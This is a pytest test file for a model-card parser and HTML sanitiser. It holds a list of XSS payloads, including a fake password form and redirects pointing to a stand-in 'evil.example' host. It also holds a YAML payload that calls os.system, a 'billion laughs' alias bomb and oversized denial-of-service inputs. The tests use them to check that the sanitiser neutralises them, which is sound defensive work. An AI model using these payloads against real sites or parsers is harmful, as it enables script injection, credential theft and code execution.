"""Model cards: what they say is read, and nothing they say can act."""

import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from zoo import cards

CARD = """---
license: apache-2.0
library_name: timm
tags: [retina, fundus]
date: 2026-01-02
model-index:
- name: net
  results: []
---
# Net

A | B
--|--
1 | 2

See [the notes](notes.md) and ![a plot](plots/a.png).
"""


def test_front_matter_and_text_are_told_apart():
    card = cards.parse(CARD, base="/a/b/resolve/main/")
    assert card.faults == []
    assert card.front["license"] == "apache-2.0"
    assert card.front["tags"] == ["retina", "fundus"]
    assert card.front["date"] == "2026-01-02"
    assert "<h3>Net</h3>" in card.html
    assert "<td>1</td>" in card.html
    assert 'href="/a/b/resolve/main/notes.md"' in card.html
    assert 'src="/a/b/resolve/main/plots/a.png"' in card.html
    assert "apache" not in card.html


def test_the_catalogue_learns_library_licence_task_and_title():
    assert cards.facts({"library_name": "timm", "license": ["mit", "x"], "task": "dr-grading", "title": "T"}) == {
        "library": "timm",
        "licence": "mit",
        "task": "dr-grading",
        "title": "T",
        "modality": "",
        "anatomy": "",
    }
    assert cards.facts({"task": "<b>", "license": {"a": 1}, "library_name": None}) == dict.fromkeys(
        ("title", "task", "library", "licence", "modality", "anatomy"), ""
    )


@pytest.mark.parametrize(
    "front",
    [
        "a: [1, 2",
        "- a list",
        "just text",
        "a: &x [1]\nb: *x",
        "a: !!python/object/apply:os.system [ls]",
        "\ta: 1",
        "a: " + "[" * 3000 + "]" * 3000,
        "a: " + "{a: " * 50 + "1" + "}" * 50,
        "a: 9999-99-99",
        "? [a]\n: b",
    ],
)
def test_bad_front_matter_is_a_fault_and_the_text_is_shown(front):
    card = cards.parse(f"---\n{front}\n---\n# Text\n")
    assert "<h3>Text</h3>" in card.html
    assert card.faults or json.dumps(card.front)


def test_a_laughing_card_is_refused_at_once():
    lines = ["a0: &a0 [x, x]"] + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)]
    front, faults = cards.read_front("---\n" + "\n".join(lines) + "\n---\n")
    assert front == {}
    assert "aliases" in faults[0]


def test_odd_values_become_plain_data():
    front, faults = cards.read_front(
        "---\na: .nan\nb: .inf\nc: 12345678901234567890\nd: !!binary aGk=\n1: 2\nnull: x\n---\n"
    )
    assert faults == []
    assert json.loads(json.dumps(front, allow_nan=False))["a"] == "nan"


def test_a_card_without_an_end_is_text():
    card = cards.parse("---\na: 1\n# Text")
    assert card.front == {}


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x'></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed' id=main class=skip onclick=alert(1)>x</div>",
    "<base href='//evil.example'><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//e>",
    "<img src='https://evil.example/p.png' alt='\"><script>alert(1)</script>'>",
    "![x](//evil.example/p.png)",
    "![x](https://evil.example/p.png)",
    "<img srcset='https://evil.example/p.png'>",
    "<video src='https://evil.example/v' autoplay></video><audio src=//e></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--<img src='--><script>alert(1)</script>'>-->",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<h1 onclick=x>big</h1>",
    "<td background='//evil.example'>x",
    "<textarea></main></body><script>alert(1)</script>",
]
ALLOWED_TAGS = cards.TAGS


class Look(HTMLParser):
    """What a browser would make of it: tags and attributes."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


def assert_harmless(html):
    look = Look()
    look.feed(html)
    for tag, attributes in look.found:
        assert tag in ALLOWED_TAGS, tag
        assert tag not in ("h1", "h2", "script", "style", "form", "input", "svg")
        for name, value in attributes.items():
            assert name in cards.ATTRIBUTES.get(tag, set()) | {"rel", "title", "lang"}, (tag, name)
            if name == "src":
                assert not re.match(r"(?i)\s*(?:[a-z][a-z0-9+.-]*:|//|\\\\)", value or ""), "a picture from elsewhere"
            if name == "href":
                address = re.sub(r"[\x00-\x20]", "", value or "").lower()
                assert not re.match(r"(?:javascript|data|vbscript|file):", address)


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_html_does_nothing(attack):
    for text in (attack, f"> {attack}", f"**{attack}**", f"| a |\n|--|\n| {attack} |", f"<div>\n\n{attack}\n\n</div>"):
        assert_harmless(cards.parse(text, base="/a/b/").html)


@given(
    st.lists(
        st.sampled_from(
            [*ATTACKS, "<", ">", '"', "'", "\n", "`", "[", "](", ")", "<div>", "</div>", "&lt;", "\\", "<img ", "src="]
        ),
        max_size=8,
    )
)
@settings(max_examples=150, deadline=None)
def test_no_mixture_of_attacks_gets_through(parts):
    assert_harmless(cards.parse("".join(parts), base="/a/b/").html)


def test_a_far_picture_is_a_link_to_it():
    html = cards.parse("![a scan](https://example.org/scan.png)").html
    assert "<img" not in html
    assert '<a href="https://example.org/scan.png"' in html
    assert ">a scan</a>" in html


@pytest.mark.parametrize(
    "text",
    [
        "<img " * 100_000,
        "[" * 50_000,
        "> " * 5000 + "x",
        "`" * 100_000,
        "*a" * 50_000,
        "<" * 200_000,
        "|" * 50_000 + "\n" + "-|" * 1000,
    ],
)
def test_a_long_and_nasty_card_is_read_to_its_end(text):
    assert cards.parse(text).html, "work that grew with the square of the length would take minutes"


def test_a_very_long_card_is_cut_and_says_so():
    card = cards.parse("word " * 200_000)
    assert "Only the first 512 KiB" in card.faults[0]
